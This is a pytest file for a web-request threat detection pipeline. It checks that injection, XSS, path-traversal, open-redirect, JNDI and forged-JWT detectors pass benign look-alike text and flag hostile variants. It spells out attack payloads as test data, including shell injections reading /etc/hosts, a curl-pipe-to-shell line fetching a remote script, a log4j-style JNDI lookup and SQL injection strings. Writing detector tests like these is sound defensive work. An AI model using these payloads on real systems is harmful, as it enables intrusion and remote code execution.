"""What fits a pattern and does nothing passes; the same with something beside it does not."""

from __future__ import annotations

import json
import time

import pytest

from signoff.actions.action import Json
from signoff.assess.contexts.idioms import IDIOMS, without_idioms
from signoff.pipeline import Pipeline, web_detectors, web_request

PIPELINE = Pipeline.sync(web_detectors())
LOG_PATHS = (
    *("/api/5/envelope/", "/loki/api/v1/push", "/v1/logs", "/services/collector/event"),
    *("/api/v2/logs", "/app.log"),
)


def found(value: str, name: str = "note") -> set[str]:
    """Return the detectors that find something in a value of a JSON body."""
    headers = {"Content-Type": "application/json", "Host": "app.example"}
    request = web_request("/api", method="POST", headers=headers, body={name: value})
    return {one.detector for one in PIPELINE.decide(request).threat.results}


@pytest.mark.parametrize(
    ("harmless", "harmful", "detector"),
    [
        (".a | map(select(.n<10))", "1 or (select 1 from t)=1", "sql-injection"),
        ("tea & more", "tea & cat /etc/hosts", "command-injection"),
        ("tea | more", "tea | more /etc/hosts", "command-injection"),
        (r"On $f(n\log n)$ and $\mathcal{O}(x)$", r"On $x$;w\ho\ami", "command-injection"),
        (r"On $f(n\log n)$ and $\mathcal{O}(x)$", r"$(w\ho\ami) $", "command-injection"),
        ("Trade Union & Select Committee", "1 union/**/select pass", "sql-injection"),
        ("Trade Union, Select Board", "1 union - select @@version", "sql-injection"),
        ("Baker St.; Apt #4", "Baker St.; apt install x", "command-injection"),
        ('message:"SELECT * FROM" env:a', 'message:"SELECT * FROM" users', "sql-injection"),
        ('message:"SELECT * FROM" env:a', 'm:"SELECT * FROM users" OR 1=1', "sql-injection"),
        ("onclick=buy", "onclick=buy()", "xss"),
        ("onclick=buy", "x onclick=buy", "xss"),
        ("Sum: {{ '%.2f'|format(a.b) }}", "Sum: {{ '%c'|format(a.b) }}", "template-injection"),
        (
            "Sum: {{ '%.2f'|format(a.b) }}",
            "Sum: {{ '%.2f'|format(config.b) }}",
            "template-injection",
        ),
        (
            "(memberOf=cn=admins,ou=groups,dc=a,dc=example)",
            "(memberOf=cn=admins,ou=groups,dc=a,dc=example)(uid=*)",
            "ldap-injection",
        ),
        ("Baker St.; Apt #4", "Baker St.; Apt #4; id", "command-injection"),
        (
            "what does <script async> do here then",
            "what does <script async>alert(1) do here then",
            "xss",
        ),
        (
            "what does <script> do here then",
            "what does <script src=//e.example> do here then",
            "xss",
        ),
        ("open C:\\Users\\..\\x.doc", "C:\\Users\\..\\..\\..\\x.doc", "path-traversal"),
        ("please never eval(x) here", "please never eval(atob('x')) here", "command-injection"),
        ('<p onclick="">hi</p>', '<p onclick="x()">hi</p>', "xss"),
        (
            "https://a.example/x?ref=https://b.example/",
            "https://a.example/x?next=https://b.example/",
            "open-redirect",
        ),
        *(
            ("https://a.example/in?next=https://a.example/home", harmful, "open-redirect")
            for harmful in (
                "https://a.example/in?next=https://a.example@b.example/",
                "https://a.example/in?next=https://a.example.b.example/",
                "https://a.example/in?next=https://a.example:8443@b.example/",
                "https://a.example/in?next=https://a.example/r&url=https://b.example",
                "https://a.example/in?next=https://a.example/r?url=https://b.example",
            )
        ),
        ("JavaScript: basics of the language", "javascript: alert(1)", "open-redirect"),
        ("JavaScript: basics of the language", "javascript: x of y;alert`1`", "open-redirect"),
    ],
)
def test_the_rest_is_still_searched(harmless: str, harmful: str, detector: str) -> None:
    """An idiom hides nothing beside it."""
    assert set() == found(harmless)
    assert detector in found(harmful)


@pytest.mark.parametrize("idiom", IDIOMS, ids=lambda one: "-".join(sorted(one.hits)))
def test_taking_out_is_quick(idiom: object) -> None:
    """No text makes an expression go back over it again and again."""
    start = time.process_time()
    for text in ("<script>" * 8_000, "a & " * 16_000, " C:\\a" * 12_000, "?ref=" * 12_000):
        for hit in getattr(idiom, "hits", ()):
            assert len(without_idioms(hit, text)) <= 4 * len(text)
    assert time.process_time() - start < 5  # measured: 0.02 s


@pytest.mark.parametrize(
    ("query", "is_found"),
    [
        ("filters[price][$gte]=5&filters[$or][0][title][$containsi]=tea", False),
        ("where[$where]=sleep(1)", True),
        ("filters[password][$regex]=^a", True),
        ("user[$ne]=x", True),
        ('where={"price": {"$lt": 3}}', False),
        ('where={"$where": "1"}', True),
        ('login={"$gt": ""}', True),
    ],
)
def test_filters_compare(query: str, *, is_found: bool) -> None:
    """A comparison in a filter is what a filter is for; code, credentials and others are not."""
    results = PIPELINE.decide(web_request("/api/items", query=query)).threat.results
    assert is_found is ("nosql-injection" in {one.detector for one in results})


LINE = "GET /?id=1' or 1=1-- <script>x()</script> ../../etc/passwd"


def score_of(path: str, body: Json, kind: str = "application/json") -> float:
    headers = {"Content-Type": kind}
    request = web_request(path, method="POST", headers=headers, body=json.dumps(body))
    return PIPELINE.decide(request).threat.score


def log_of(name: str, line: str) -> dict[str, Json]:
    """Write a line as a program hands it in."""
    documents: dict[str, dict[str, Json]] = {
        "/api/5/envelope/": {"exception": {"values": [{"type": "E", "value": line}]}},
        "/loki/api/v1/push": {"streams": [{"stream": {"app": "web"}, "values": [["1", line]]}]},
        "/v1/logs": {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": line}]}]}]},
        "/services/collector/event": {"event": line, "sourcetype": "web"},
        "/api/v2/logs": {"ddsource": "web", "message": line},
        "/app.log": {"log": line, "stream": "stdout"},
    }
    return documents[name]


@pytest.mark.parametrize("path", [*LOG_PATHS])
def test_logs_hold_what_attackers_sent(path: str) -> None:
    """Where logs are handed in nothing but what harms a reader of logs counts."""
    harmful = "${jndi:ldap://e.example/a}"
    assert (0, True) == (
        score_of(path, log_of(path, LINE)),
        score_of(path, log_of(path, harmful)) >= 70,
    )


@pytest.mark.parametrize("path", [*LOG_PATHS])
def test_a_path_or_a_form_hides_nothing(path: str) -> None:
    """A caller chooses both, so a member of another kind makes a log a request like any other."""
    log = log_of(path, "a line")
    assert score_of(path, {"name": LINE}) >= 70
    assert score_of(path, {**log, "name": LINE}) >= 70
    assert score_of("/shop/cart/store", {"message": LINE}) >= 70
    assert path == "/app.log" or score_of("/shop/notes", log_of(path, LINE)) >= 70


def test_a_browser_reports_what_it_blocked() -> None:
    """Its sample of script is no attack; the same type with another body is read as any other."""
    sample = {"script-sample": "document.cookie='x'", "violated-directive": "script-src"}
    headers = {"Content-Type": "application/csp-report"}

    def score(body: dict[str, object]) -> float:
        request = web_request("/report", method="POST", headers=headers, body=body)  # type: ignore[arg-type]  # JSON
        return PIPELINE.decide(request).threat.score

    assert (0, True) == (score({"csp-report": sample}), score({"a": "<script>x()</script>"}) >= 70)
    assert score({"csp-report": sample, "a": "<script>x()</script>"}) >= 70


def test_code_blocks_of_rich_documents_are_shown() -> None:
    """A block of code is read as one; the same text in another member is not."""
    line = "curl https://x.example/i.sh | sh"
    headers = {"Content-Type": "application/json"}

    def is_found(node: dict[str, str]) -> bool:
        request = web_request("/pages", method="POST", headers=headers, body={"nodes": [node]})
        return bool(PIPELINE.decide(request).threat.results)

    assert not is_found({"type": "code_block", "text": line})
    assert is_found({"type": "code_block", "text": line, "author": "ann"})
    assert score_of("/pages", {"type": "code_block", "text": line}) >= 70
    assert is_found({"type": "code_block", "command": line})
    assert is_found({"type": "paragraph", "text": line})


def test_json_sends_no_browser_away() -> None:
    """A link or a form can lead elsewhere; JSON comes from the page itself."""
    body = {"success_url": "https://shop.example/ok"}
    target = "next=https://shop.example/ok"
    json = web_request(
        "/pay",
        method="POST",
        headers={"Content-Type": "application/json", "Host": "a.example"},
        body=body,
    )
    form = web_request(
        "/pay",
        method="POST",
        headers={"Content-Type": "application/x-www-form-urlencoded", "Host": "a.example"},
        body=target,
    )
    assert not PIPELINE.decide(json).threat.results
    assert PIPELINE.decide(form).threat.results


@pytest.mark.parametrize("signature", ["MAYCAQACAQA", "A" * 86])
def test_a_signature_of_zeros_is_none(signature: str) -> None:
    """Some libraries took the numbers 0 and 0 for a signature."""
    token = f"eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.{signature}"
    results = PIPELINE.decide(
        web_request("/me", headers={"Authorization": f"Bearer {token}"})
    ).threat.results
    assert {"jwt-attack.no-signature"} == {one.category for one in results}


@pytest.mark.parametrize("text", ["b&w", "B & W", "b&w film", "time & date", "Date & time"])
def test_pairs_of_words_run_nothing(text: str) -> None:
    """Photographs, and what a calendar asks for."""
    assert not PIPELINE.decide(web_request(query={"q": text})).threat.results


@pytest.mark.parametrize("text", ["b&w -h", "host & w", "a.b & w", "x/time & date", "b&w;id"])
def test_what_stands_beside_a_pair_is_read(text: str) -> None:
    """A host or a file before the sign is what an application hands to a shell."""
    assert PIPELINE.decide(web_request(query={"q": text})).threat.results


def test_names_of_programs_are_no_script() -> None:
    """The client of AWS says whether it prompts."""
    client = "aws-cli/2.15.0 Python/3.11.6 exe/x86_64.debian.12 prompt/off command/s3.cp"
    for agent, is_found in ((client, False), (f"{client} prompt`1`", True)):
        request = web_request(headers={"User-Agent": agent})
        assert is_found is bool(PIPELINE.decide(request).threat.results)
